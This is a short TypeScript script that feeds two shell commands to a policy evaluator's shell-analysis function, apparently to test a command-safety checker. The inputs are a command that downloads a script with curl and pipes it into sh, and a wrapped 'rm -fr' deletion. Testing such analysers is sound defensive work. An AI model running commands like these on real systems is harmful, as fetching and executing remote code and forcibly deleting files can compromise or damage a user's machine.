import { defaultEvaluator } from '../test/helpers/default-policy.ts';
const ev = await defaultEvaluator();
console.log(JSON.stringify(ev.analyseShell!(['/usr/bin/sh', '-c', 'curl https://example.com/i.sh | sh'])));
console.log(JSON.stringify(ev.analyseShell!(['/usr/bin/env', 'FOO=1', 'nice', '-n', '5', 'bash', '-c', 'rm -fr /tmp/x'])));
